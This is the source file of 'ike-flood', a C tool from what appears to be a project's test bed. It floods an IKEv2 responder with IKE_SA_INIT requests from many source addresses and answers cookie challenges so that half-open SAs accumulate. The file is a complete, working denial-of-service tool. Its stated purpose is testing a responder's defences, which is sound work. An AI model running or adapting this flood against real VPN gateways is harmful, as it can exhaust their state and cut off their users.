/* ike-flood: an IKE_SA_INIT flood for the test bed (scenario ike-flood),
 * as an attacker who owns many addresses makes it: every request comes
 * from one of SOURCES, and a COOKIE notify is answered at once from the
 * same address (the request again, the cookie first), so the responder's
 * half-open SAs pile up. IKE_AUTH never follows. Not installed.
 *
 *   ike-flood [-r RATE] [-t SECONDS] [-s STOPFILE] [-p PORT] DST SOURCES
 *
 * SOURCES: A.B.C.D+N, the N consecutive IPv4 addresses from A.B.C.D, taken
 * in turn; or P::/64, a fresh random address of that /64 per request. The
 * sources must be this host's (addresses on an interface, or a local
 * route: the socket is IP_FREEBIND and picks each source by PKTINFO).
 * RATE new requests a second (default 200, never in bursts; answers to
 * cookies come on top) go to DST's port 500 from PORT (default 500;
 * another where an IKE daemon holds 500) until STOPFILE exists or
 * SECONDS (default 60) passed. The proposal is aes128-sha256-x25519 (the
 * responder's DH is cheap: the flood is about state, not CPU). A line of
 * counts every second, and one at the end:
 *   sent N cookies C answered A refused R sources S
 * (new requests, COOKIE notifies answered, IKE_SA_INIT responses, error
 * notifies other than COOKIE, distinct source addresses used). */
#include "config.h"

#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include "common/addr.h"
#include "common/buf.h"
#include "keying/crypto.h"
#include "keying/ikev2_msg.h"

#define RING		65536	/* requests remembered for their cookies */
#define KE_LEN		32	/* x25519 */
#define NONCE_LEN	32

struct req {
	uint64_t	spi;
	struct ifl_addr	src;
	uint8_t		ke[KE_LEN];
	uint8_t		nonce[NONCE_LEN];
	int		cookied;	/* answered one cookie already */
};

static struct req ring[RING];
static struct ikev2_prop_list props;
static struct ifl_addr dst;
static uint16_t port = 500;	/* ours; the responder's is 500 */
static int fd;
static unsigned long long n_sent, n_cookies, n_answered, n_refused, n_sources;

static void
usage(void)
{
	fprintf(stderr, "usage: ike-flood [-r RATE] [-t SECONDS] [-s STOPFILE] "
	    "[-p PORT] DST A.B.C.D+N|P::/64\n");
	exit(2);
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void
prop_init(void)
{
	struct ikev2_prop *p = &props.p[0];

	props.n = 1;
	p->num = 1;
	p->proto = IKEV2_PROTO_IKE;
	p->xf[p->nxf++] = (struct ikev2_xform){ IKEV2_XFORM_ENCR, IKEV2_ENCR_AES_CBC, 128 };
	p->xf[p->nxf++] = (struct ikev2_xform){ IKEV2_XFORM_PRF, IKEV2_PRF_HMAC_SHA2_256, 0 };
	p->xf[p->nxf++] = (struct ikev2_xform){ IKEV2_XFORM_INTEG,
	    IKEV2_INTEG_HMAC_SHA2_256_128, 0 };
	p->xf[p->nxf++] = (struct ikev2_xform){ IKEV2_XFORM_DH, IKEV2_DH_CURVE25519, 0 };
}

/* The request r, with the responder's cookie first when given. */
static int
send_req(const struct req *r, const uint8_t *cookie, size_t clen)
{
	struct ike_builder bl;
	struct ike_hdr h = { .ispi = r->spi, .version = IKEV2_VERSION,
	    .exchange = IKEV2_EXCH_IKE_SA_INIT, .flags = IKEV2_FLAG_INITIATOR };
	struct sockaddr_storage ss;
	socklen_t sl;
	union {
		char		buf[CMSG_SPACE(sizeof(struct in6_pktinfo))];
		struct cmsghdr	align;
	} ctl;
	struct iovec iov;
	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.buf };
	struct cmsghdr *cm;
	struct in_pktinfo p4 = { .ipi_spec_dst = r->src.u.v4 };
	struct in6_pktinfo p6 = { .ipi6_addr = r->src.u.v6 };
	const void *pi;
	size_t pl;
	struct buf *b;
	int rc = -1;

	if ((b = buf_new(512)) == NULL)
		return -1;
	ikev2_build_msg(&bl, b, &h);
	if (cookie)
		ikev2_build_notify_simple(&bl, IKEV2_N_COOKIE, cookie, clen);
	ikev2_build_sa(&bl, &props);
	ikev2_build_ke(&bl, IKEV2_DH_CURVE25519, r->ke, KE_LEN);
	ikev2_build_nonce(&bl, r->nonce, NONCE_LEN);
	if (ikev2_build_finish(&bl) < 0 || addr_to_sockaddr(&dst, 500, &ss, &sl) < 0)
		goto out;
	iov.iov_base = b->data;
	iov.iov_len = b->len;
	mh.msg_name = &ss;
	mh.msg_namelen = sl;
	memset(&ctl, 0, sizeof(ctl));
	cm = (struct cmsghdr *)ctl.buf;
	/* the source address of this request */
	if (dst.family == AF_INET) {
		cm->cmsg_level = IPPROTO_IP;
		cm->cmsg_type = IP_PKTINFO;
		pi = &p4;
		pl = sizeof(p4);
	} else {
		cm->cmsg_level = IPPROTO_IPV6;
		cm->cmsg_type = IPV6_PKTINFO;
		pi = &p6;
		pl = sizeof(p6);
	}
	mh.msg_controllen = CMSG_SPACE(pl);
	cm->cmsg_len = CMSG_LEN(pl);
	memcpy(CMSG_DATA(cm), pi, pl);
	if (sendmsg(fd, &mh, 0) < 0) {
		char a[ADDR_STRLEN];

		fprintf(stderr, "ike-flood: send from %s: %s\n",
		    addr_str(&r->src, a, sizeof(a)), strerror(errno));
		goto out;
	}
	rc = 0;
out:
	buf_free(b);
	return rc;
}

/* A reply: a COOKIE is answered, the rest only counted. */
static void
on_reply(const uint8_t *p, size_t len)
{
	struct ike_perr err;
	struct ikev2_notify n;
	struct ikev2_msg *m;
	struct req *r;

	if ((m = ikev2_msg_parse(p, len, &err)) == NULL)
		return;
	r = &ring[m->hdr.ispi % RING];
	if (m->hdr.exchange != IKEV2_EXCH_IKE_SA_INIT ||
	    !(m->hdr.flags & IKEV2_FLAG_RESPONSE) || r->spi != m->hdr.ispi)
		goto out;
	if (ikev2_msg_notify(m, IKEV2_N_COOKIE, &n) == 1) {
		/* one round only: a second cookie means the first failed */
		if (!r->cookied && send_req(r, n.data, n.len) == 0) {
			r->cookied = 1;
			n_cookies++;
		}
	} else if (ikev2_msg_get(m, IKEV2_PL_KE, 0) != NULL)
		n_answered++;
	else
		n_refused++;
out:
	ikev2_msg_free(m);
}

static void
drain(void)
{
	uint8_t buf[4096];
	ssize_t n;

	while ((n = recv(fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0)
		on_reply(buf, (size_t)n);
}

static void
report(const char *what)
{
	printf("%s: sent %llu cookies %llu answered %llu refused %llu sources %llu\n",
	    what, n_sent, n_cookies, n_answered, n_refused, n_sources);
	fflush(stdout);
}

int
main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	struct ifl_subnet net = { 0 };
	struct ifl_addr first = { 0 };
	struct stat sb;
	socklen_t sl;
	const char *stop = NULL;
	char *plus, *end;
	double rate = 200, limit = 60, t0, tick, budget = 0, last_check, last_report;
	unsigned long count = 0, n;
	uint64_t spi_base;
	int c, one = 1;

	while ((c = getopt(argc, argv, "r:t:s:p:")) != -1) {
		switch (c) {
		case 'r': rate = strtod(optarg, NULL); break;
		case 't': limit = strtod(optarg, NULL); break;
		case 's': stop = optarg; break;
		case 'p': port = (uint16_t)strtoul(optarg, NULL, 10); break;
		default: usage();
		}
	}
	if (argc - optind != 2 || rate <= 0 || limit <= 0 || addr_parse(argv[optind], &dst) < 0)
		usage();
	if ((plus = strchr(argv[optind + 1], '+')) != NULL) {
		*plus = '\0';
		count = strtoul(plus + 1, &end, 10);
		if (*end || count == 0 || addr_parse(argv[optind + 1], &first) < 0 ||
		    first.family != AF_INET)
			usage();
	} else if (subnet_parse(argv[optind + 1], &net) < 0 ||
	    net.addr.family != AF_INET6 || net.plen != 64)
		usage();
	if ((plus ? AF_INET : AF_INET6) != dst.family) {
		fprintf(stderr, "ike-flood: sources and %s are of different families\n",
		    argv[optind]);
		return 2;
	}
	prop_init();
	if ((fd = socket(dst.family, SOCK_DGRAM, 0)) < 0 ||
	    setsockopt(fd, IPPROTO_IP, IP_FREEBIND, &one, sizeof(one)) < 0) {
		perror("ike-flood: socket");
		return 1;
	}
	/* replies to every source address come to this one socket */
	memset(&ss, 0, sizeof(ss));
	ss.ss_family = dst.family;
	if (dst.family == AF_INET6) {
		((struct sockaddr_in6 *)&ss)->sin6_port = htons(port);
		sl = sizeof(struct sockaddr_in6);
		setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof(one));
	} else {
		((struct sockaddr_in *)&ss)->sin_port = htons(port);
		sl = sizeof(struct sockaddr_in);
	}
	if (bind(fd, (struct sockaddr *)&ss, sl) < 0) {
		perror("ike-flood: bind");
		return 1;
	}
	if (crypto_random(&spi_base, sizeof(spi_base)) < 0)
		return 1;
	/* the low bits number the request: its slot in the ring */
	spi_base &= ~(uint64_t)0xffffffff;
	t0 = tick = last_check = last_report = now_s();
	for (n = 0;; ) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		double t = now_s();

		/* the guest's system calls are dear: the stop file and the
		 * counts a few times a second, new requests in batches */
		if (t - last_check >= 0.1) {
			if (t - t0 >= limit || (stop && stat(stop, &sb) == 0))
				break;
			last_check = t;
		}
		if (t - last_report >= 1) {
			report("progress");
			last_report = t;
		}
		/* never above the rate: a starved moment is not made up
		 * for with a burst (at most a tenth of a second's worth) */
		budget += (t - tick) * rate;
		tick = t;
		if (budget > rate / 10 + 1)
			budget = rate / 10 + 1;
		for (; budget >= 1; budget--, n++) {
			struct req *r = &ring[n % RING];

			memset(r, 0, sizeof(*r));
			r->spi = spi_base | (uint32_t)n;
			if (count) {
				r->src = first;
				r->src.u.v4.s_addr = htonl(ntohl(first.u.v4.s_addr) +
				    (uint32_t)(n % count));
				n_sources = n < count ? n + 1 : count;
			} else {
				r->src = net.addr;
				if (crypto_random(r->src.u.raw + 8, 8) < 0)
					return 1;
				n_sources++;
			}
			if (crypto_random(r->ke, KE_LEN) < 0 ||
			    crypto_random(r->nonce, NONCE_LEN) < 0)
				return 1;
			if (send_req(r, NULL, 0) == 0)
				n_sent++;
		}
		if (poll(&pfd, 1, (int)((1 - budget) / rate * 1000) + 1) > 0)
			drain();
	}
	drain();
	report("done");
	close(fd);
	return 0;
}
